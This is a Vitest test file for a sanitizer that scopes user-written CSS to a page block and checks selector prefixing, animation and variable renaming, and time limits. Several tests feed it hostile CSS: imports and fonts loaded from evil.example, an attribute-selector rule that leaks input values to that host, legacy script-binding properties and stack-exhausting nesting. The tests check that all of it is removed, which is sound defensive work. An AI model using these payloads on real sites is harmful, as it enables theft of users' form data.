import { expect, test } from "vitest";
import { growth, linear, processorTime } from "../../../test/growth.ts";
import { cssLimits, whyTooMuchCss, writtenCss } from "../../model/base/css-limits.ts";
import { scopeCss } from "./scope-css.ts";

test.each([
  [".card, h2 > a:hover { color: red }", "#b-1 .card,#b-1 h2>a:hover{color:red}"],
  [":root { margin: 0 } body .x { margin: 1px } html { padding: 0 }", "#b-1{margin:0}#b-1 .x{margin:1px}#b-1{padding:0}"],
  ["@media (width < 600px) { .x { color: red } }", "@media (width<600px){#b-1 .x{color:red}}"],
  [".a { color: red; &:hover { color: #00f } .b & { color: #0f0 } }", /^#b-1 \.a\{color:red\}/],
  ["& .x { color: red } &:hover { color: #00f } & { margin: 0 }", "#b-1 .x{color:red}#b-1:hover{color:#00f}#b-1{margin:0}"],
  [
    "@media (width < 600px) { & > .x { color: red } } :scope .y { color: red }",
    "@media (width<600px){#b-1>.x{color:red}}#b-1 .y{color:red}",
  ],
  [":root ~ *, .a ~ .b { color: red }", "#b-1 .a~.b{color:red}"],
  [":root, .a { .x { color: red } & ~ .y { color: red } }", ":is(#b-1,#b-1 .a) .x,:is(#b-1 .a)~.y{color:red}"],
  [".a { background: url(/files/1/x.png) }", "#b-1 .a{background:url(/files/1/x.png)}"],
])("%s is kept, for the block alone [BL-53]", (css, expected) => {
  if (typeof expected === "string") expect(scopeCss(css, "b-1")).toBe(expected);
  else expect(scopeCss(css, "b-1")).toMatch(expected);
});

test("animations and counters of two blocks may be called the same, and are each block's own [BL-53]", () => {
  const css =
    "@keyframes fade { to { opacity: 0 } } @counter-style own { system: cyclic; symbols: x } .a { animation: fade 1s, other 2s; list-style: own }";
  for (const id of ["b-1", "b-2"])
    expect(scopeCss(css, id)).toBe(
      `@keyframes ${id}-fade{to{opacity:0}}@counter-style ${id}-own{system:cyclic;symbols:x}#${id} .a{list-style:${id}-own;animation:1s ${id}-fade,2s other}`,
    );
  expect(scopeCss('@keyframes "in" { to { opacity: 0 } } .a { animation-name: in }', "b-1")).toContain("animation-name:b-1-in");
});

test.each([
  [".a { animation: fade var(--d) }", "#b-1 .a{animation:b-1-fade var(--d)}"],
  [".a { animation: var(--x, fade) 1s }", "#b-1 .a{animation:var(--x,b-1-fade) 1s}"],
  [".a { animation-name: var(--x, fade) }", "#b-1 .a{animation-name:var(--x,b-1-fade)}"],
  [".a { --own: fade 1s; animation: var(--own) }", "#b-1 .a{--own:b-1-fade 1s;animation:var(--own)}"],
  [".a { animation: fade var(--d); transition: fade var(--d) }", "#b-1 .a{animation:b-1-fade var(--d);transition:fade var(--d)}"],
])("%s plays the block's own animation, also by what is known later", (css, expected) => {
  expect(scopeCss(`@keyframes fade { to { opacity: 0 } } ${css}`, "b-1")).toContain(expected);
});

test("what a block says of its own variables says nothing of the page's", () => {
  const css =
    "@property --brand { syntax: '<color>'; inherits: false; initial-value: red } .a { --brand: blue; color: var(--brand); background: var(--paper) }";
  expect(scopeCss(css, "b-1")).toBe(
    '@property --b-1-brand{syntax:"<color>";inherits:false;initial-value:red}#b-1 .a{--b-1-brand:blue;color:var(--b-1-brand);background:var(--paper)}',
  );
});

test.each([
  "@import url(//evil.example/x.css);",
  "@font-face { font-family: x; src: url(//evil.example/f.woff) }",
  ".a { behavior: url(x.htc) }",
  ".a { -moz-binding: url(x.xml#y) }",
  ".a { position: fixed }",
  ".a { position: FIXED !important }",
  ".a { position: var(--p) }",
  "@page { margin: 0 }",
  "@view-transition { navigation: auto }",
  "@font-palette-values --p { font-family: x }",
  "@font-feature-values X { @styleset { a: 1 } }",
  "@viewport { width: 1px }",
  "@charset 'utf-8'; @namespace svg url(http://evil.example/);",
  "{{{{",
  "not css at all <script>",
])("%s leaves nothing [UGC-05]", (css) => {
  expect(scopeCss(css, "b-1").replace(/#b-1[^{]*\{\}/g, "")).toBe("");
});

test.each([
  "input[value^='a'] { background: url(https://evil.example/?a) }",
  ".a { background: url('//evil.example/x') }",
  ".a { background: url('/\\\\evil.example/x') }",
  ".a { background: image-set(url(https://evil.example/x) 1x) }",
  ".a { background: image-set('https://evil.example/x' 1x) }",
  ".a { --y: image-set('https://evil.example/x' 1x); background: var(--y) }",
  ".a { background: src('https://evil.example/x') }",
  ".a { --x: url(https://evil.example/x); background: var(--x) }",
  "@keyframes x { to { opacity: 0 } } .a { --y: x url(https://evil.example/x); animation: var(--z, x url(https://evil.example/x)) }",
  ".a { cursor: url(https://evil.example/x), auto }",
  ".a { list-style: url(data:text/html,x) }",
])("%s asks nobody else for anything [UGC-05]", (css) => {
  expect(scopeCss(css, "b-1")).not.toMatch(/evil|text\/html/);
});

test.each([
  "} body { color: red } .a { color: red } } * { color: red } .x:not(.y) { color: red } .a { .b { & + & { color: red } } }",
  "& { color: red } & .footer { color: red } .b & { color: red } :is(&, .a) .b { color: red } :not(&) { color: red }",
  ":root ~ * { color: red } body + .x { color: red } html.y ~ * .z { color: red } & + * { color: red } &:hover ~ .x { color: red } .a { color: red }",
  ":root { & ~ * { color: red } + .x { color: red } } :root, .a { & ~ * { color: red } .b & ~ * { color: red } }",
  "@scope (:root ~ *) { :scope .x { color: red } & { color: red } } @layer x { & ~ .y { color: red } & .z { color: red } }",
])("no rule of %s reaches out of the block [UGC-05]", (css) => {
  const selectors = [...scopeCss(css, "b-1").matchAll(/([^{}]+)\{color:red\}/g)].flatMap(([, list = ""]) => list.split(/,(?![^(]*\))/));
  expect(selectors.length).toBeGreaterThan(0);
  for (const selector of selectors) expect(selector).toMatch(/^(:is\()?#b-1(?![^ >]*[~+])/);
});

test.each([
  ["levels that double", `${"a,b{".repeat(15)}color:red${"}".repeat(15)}`],
  ["functions that are tried in two ways each", `a{width:${"calc(".repeat(40)}`],
  ["brackets that fill the stack", `${":not(".repeat(2_000)}a${")".repeat(2_000)}{color:red}`],
  ["rules that fill the stack", `${"@media print{".repeat(2_000)}a{color:red}${"}".repeat(2_000)}`],
  ["layers that fill the stack", `${"@layer{".repeat(2_000)}a{color:red}${"}".repeat(2_000)}`],
])("%s are left out before anything parses them [UGC-05]", (_, css) => {
  const start = processorTime();
  expect(scopeCss(css, "b-1")).toBe("");
  expect(processorTime() - start).toBeLessThan(100);
});

/** Pieces of rules in any order, most of them wrong: the same ones at each run. */
function* scrambled(count: number): Generator<string> {
  const pieces = [..."ab&,{}{}();[]/*'\"\\", ".c", ":is(", ":not(", "@media print{", "url(", "--x:", "color:red", " ", "& ", "*/"];
  let seed = 1;
  const next = (below: number) => {
    seed = (seed * 48_271) % 2_147_483_647;
    return seed % below;
  };
  for (let each = 0; each < count; each++) yield Array.from({ length: next(40) }, () => pieces[next(pieces.length)]).join("");
}

test("whatever is written, it is never longer than was counted before", () => {
  let looked = 0;
  for (const css of scrambled(3_000)) {
    if (whyTooMuchCss(css) !== undefined) continue;
    looked++;
    expect(scopeCss(css, "b-1").length, css).toBeLessThanOrEqual(writtenCss(css));
  }
  expect(looked).toBeGreaterThan(1_000);
});

test.each([
  ["rules", (size: number) => Array.from({ length: size / 80 }, (_, index) => `.a${index}{color:#${100_000 + index}}`).join("")],
  ["selectors", (size: number) => `${Array.from({ length: size / 40 }, (_, index) => `.a${index}`).join(",")}{color:red}`],
  ["declarations", (size: number) => `a{${Array.from({ length: size / 40 }, (_, index) => `--x${index}:1px`).join(";")}}`],
  ["nested rules", (size: number) => ".a{.b{&:hover{color:red}}}".repeat(size / 200)],
  ["functions", (size: number) => `a{width:${"calc(".repeat(8)}${")".repeat(8)}}`.repeat(size / 4_000)],
])("twice as many %s take about twice as long", (_, cssOf) => {
  const size = cssLimits.written;
  expect(whyTooMuchCss(cssOf(size))).toBeUndefined();
  expect(growth(cssOf, (css) => scopeCss(css, "b-1"), size)).toBeLessThan(linear);
});
